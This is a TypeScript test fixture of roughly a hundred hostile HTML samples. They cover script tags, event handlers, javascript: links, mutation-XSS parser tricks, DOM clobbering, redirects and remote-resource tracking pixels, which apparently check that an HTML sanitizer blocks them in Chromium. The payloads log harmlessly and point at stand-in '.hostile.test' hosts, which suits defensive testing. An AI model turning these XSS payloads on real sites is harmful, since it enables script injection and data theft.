export interface Sample {
  readonly id: string;
  readonly html: string;
  /** Whether Chromium does something with it where nothing protects: then the control must see it. */
  readonly bites: boolean;
}

/** In a sample, RUN is a script that tells its name, and URL a place at a host of its own. */
function sample(id: string, html: string, bites = true): Sample {
  const url = `http://${id}.hostile.test`;
  return { id, html: html.replaceAll('RUN', `console.log(\`PWN:${id};\`)`).replaceAll('URL', url), bites };
}

/** Ours, written for the classes of attack that we know of. `bites: false` is what a browser of today ignores. */
export const HOSTILE_SAMPLES: readonly Sample[] = [
  // Scripts
  sample('script', '<script>RUN</script>'),
  sample('script-src', '<script src="URL/a.js"></script>'),
  sample('script-module', '<script type="module">RUN</script>'),
  sample('script-import', '<script>import("URL/a.js").catch(() => 0)</script>'),
  sample('script-split', '<scr<script>ipt>RUN</scr</script>ipt>', false),
  sample('script-in-template', '<template><script>RUN</script></template>', false),
  sample(
    'script-shadow',
    '<div><template shadowrootmode="open"><img src="x:" onerror="RUN"></template></div>',
  ),
  sample(
    'script-closed-shadow',
    '<p><template shadowrootmode="closed"><img src="x:" onerror="RUN"></template></p>',
  ),
  sample(
    'speculation-rules',
    '<script type="speculationrules">{"prefetch":[{"urls":["URL/s"]}]}</script>',
    false,
  ),
  sample(
    'import-map',
    '<script type="importmap">{"imports":{"a":"URL/a"}}</script><script type="module">import "a"</script>',
  ),
  // Event handlers
  sample('onerror', '<img src="x:" onerror="RUN">'),
  sample('onerror-slash', '<img/src="x:"/onerror=RUN>'),
  sample('onload-svg', '<svg onload="RUN"></svg>'),
  sample('onload-body', '<body onload="RUN">'),
  sample('onerror-video', '<video><source onerror="RUN"></video>'),
  sample('ontoggle', '<details open ontoggle="RUN">x</details>'),
  sample('onfocus', '<a id="f" tabindex="0" autofocus onfocus="RUN">x</a>'),
  sample('onfocus-input', '<input autofocus onfocus="RUN">', false),
  sample('onanimation', '<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationend="RUN">x</b>'),
  sample('onload-style', '<style onload="RUN"></style>'),
  sample('onclick', '<button onclick="RUN">x</button>'),
  sample('onclick-link', '<a href="#" onclick="RUN">x</a>'),
  sample(
    'onbeforetoggle',
    '<div popover id="p" onbeforetoggle="RUN">x</div><button popovertarget="p">x</button>',
  ),
  sample(
    'oncontentvisibility',
    '<b style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="RUN">x',
  ),
  // Addresses that are scripts
  sample('javascript-link', '<a href="javascript:RUN">x</a>'),
  sample('javascript-blank', '<a href="javascript:RUN" target="_blank" rel="opener">x</a>', false),
  sample('javascript-case', '<a href=" \u0001JaVa\tScRiPt:RUN">x</a>'),
  sample('javascript-entity', '<a href="&#x6a;avascript&colon;RUN">x</a>'),
  sample('javascript-newline', '<a href="java&NewLine;script:RUN">x</a>'),
  sample('javascript-top', '<a href="javascript:RUN" target="_top">x</a>'),
  sample(
    'javascript-area',
    '<map name="m"><area href="javascript:RUN" shape="default"></map><img usemap="#m">',
  ),
  sample('javascript-form', '<form action="javascript:RUN"><button>x</button></form>'),
  sample('javascript-formaction', '<form><button formaction="javascript:RUN">x</button></form>'),
  sample('javascript-iframe', '<iframe src="javascript:RUN"></iframe>'),
  sample('javascript-svg', '<svg><a href="javascript:RUN"><text y="9">x</text></a></svg>', false),
  sample('javascript-svg-xlink', '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>', false),
  sample(
    'javascript-svg-animate',
    '<svg><a><animate attributeName="href" values="javascript:RUN"/><text>x</text></a></svg>',
    false,
  ),
  sample('javascript-math', '<math href="javascript:RUN"><mtext>x</mtext></math>', false),
  sample('javascript-img', '<img src="javascript:RUN">', false),
  sample('vbscript', '<a href="vbscript:RUN">x</a>', false),
  sample('data-link', '<a href="data:text/html,<script>RUN</script>">x</a>', false),
  // Documents within
  sample('srcdoc', '<iframe srcdoc="<script>RUN</script>"></iframe>'),
  sample('srcdoc-sandbox', '<iframe sandbox="allow-scripts" srcdoc="<script>RUN</script>"></iframe>'),
  sample('data-iframe', '<iframe src="data:text/html,<script>RUN</script>"></iframe>'),
  sample('iframe', '<iframe src="URL/frame"></iframe>'),
  sample('object', '<object data="URL/object"></object>'),
  sample('object-data', '<object data="data:text/html,<script>RUN</script>"></object>'),
  sample('embed', '<embed src="URL/embed">'),
  sample(
    'embed-svg',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'RUN\'/>">',
  ),
  sample('frameset', '<frameset><frame src="URL/frameset"></frameset>', false),
  sample('portal', '<portal src="URL/portal"></portal><fencedframe src="URL/fenced"></fencedframe>', false),
  // Where a parser reads it otherwise the second time
  sample(
    'mxss-math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=RUN&gt;">',
    false,
  ),
  sample('mxss-svg', '<svg></p><style><a id="</style><img src=x: onerror=RUN>">'),
  sample('mxss-noscript', '<noscript><p title="</noscript><img src=x: onerror=RUN>">'),
  sample('mxss-xmp', '<xmp><p title="</xmp><img src=x: onerror=RUN>">'),
  sample(
    'mxss-form',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
    false,
  ),
  sample('mxss-comment', '<!--><img src=x: onerror=RUN>-->'),
  sample('mxss-cdata', '<svg><![CDATA[><image xlink:href="x:" onerror="RUN"/>]]></svg>', false),
  sample(
    'mxss-select',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x: onerror=RUN>">',
    false,
  ),
  sample('nesting', `${'<div>'.repeat(600)}<img src="x:" onerror="RUN">`),
  sample('foreign-object', '<svg><foreignObject><img src="x:" onerror="RUN"></foreignObject></svg>'),
  sample(
    'use-data',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x\"/></svg>",
    false,
  ),
  // Names that hide ours
  sample(
    'clobber',
    '<form id="attributes" name="body"><input name="attributes"><img name="getElementById" src="x:" onerror="RUN"></form>',
  ),
  sample(
    'clobber-node',
    '<form><input name="parentNode"><input name="nodeName"><input name="removeChild"><b onclick="RUN">x</b></form>',
    false,
  ),
  sample('own-class', '<a class="held-media" href="javascript:RUN">Show images</a>'),
  // Going somewhere
  sample('refresh', '<meta http-equiv="refresh" content="0;url=URL/refresh">'),
  sample('refresh-script', '<meta http-equiv="refresh" content="0;url=javascript:RUN">', false),
  sample('base', '<base href="URL/"><img src="from-base.png"><a href="x">x</a>'),
  sample('base-top', '<base target="_top"><a href="URL/base-top">x</a>'),
  sample('link-top', '<a href="URL/top" target="_top">x</a>'),
  sample('link-parent', '<a href="URL/parent" target="_parent">x</a>'),
  sample('link-self', '<a href="URL/self" target="_self">x</a>'),
  sample('form-get', '<form action="URL/form"><button>x</button></form>'),
  sample(
    'form-post-top',
    '<form action="URL/form" method="post" target="_top"><input name="a"><button>x</button></form>',
  ),
  sample('form-blank', '<form action="URL/form" target="_blank"><button>x</button></form>'),
  sample('form-image', '<form action="URL/form"><input type="image" src="x:" alt="x"></form>'),
  sample('ping', '<a href="https://example.test/" ping="URL/ping" target="_blank">x</a>'),
  sample('download', '<a href="data:text/html,x" download="invoice.html">x</a>', false),
  // Asking for something
  sample('stylesheet', '<link rel="stylesheet" href="URL/a.css">'),
  sample('style-import', '<style>@import "URL/a.css";</style>'),
  sample('style-background', '<div style="background:url(URL/a.png);height:9px">x</div>'),
  sample(
    'style-font',
    '<style>@font-face{font-family:f;src:url(URL/f.woff)}b{font-family:f}</style><b>x</b>',
  ),
  sample('prefetch', '<link rel="prefetch" href="URL/prefetch">'),
  sample('preload', '<link rel="preload" as="script" href="URL/preload">'),
  sample('modulepreload', '<link rel="modulepreload" href="URL/a.js">'),
  sample('icon', '<link rel="icon" href="URL/icon.png"><link rel="manifest" href="URL/manifest">', false),
  sample('body-background', '<body background="URL/a.png"><table background="URL/b.png"><tr><td>x'),
  sample('image', '<img src="URL/a.png">'),
  sample('image-srcset', '<img srcset="URL/a.png 1x, URL/b.png 2x" alt="">'),
  sample('image-picture', '<picture><source srcset="URL/a.webp"><img src="URL/a.png"></picture>'),
  sample(
    'image-referrer',
    '<meta name="referrer" content="unsafe-url"><img src="URL/a.png" referrerpolicy="unsafe-url">',
  ),
  sample('image-pixel', '<img src="URL/pixel.gif" width="1" height="1">'),
  sample('image-input', '<input type="image" src="URL/a.png">'),
  sample('image-svg', '<svg><image href="URL/a.png" width="9" height="9"/></svg>'),
  sample(
    'image-svg-filter',
    '<svg><filter id="f"><feImage href="URL/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  ),
  sample('image-noscript', '<noscript><img src="URL/a.png"></noscript>', false),
  sample('video', '<video src="URL/a.mp4" poster="URL/a.png" autoplay muted preload="auto"></video>'),
  sample(
    'video-source',
    '<video autoplay muted><source src="URL/a.mp4"><track default src="URL/a.vtt"></video>',
  ),
  sample('audio', '<audio src="URL/a.mp3" autoplay></audio>'),
  sample(
    'dns',
    '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="URL">',
    false,
  ),
];
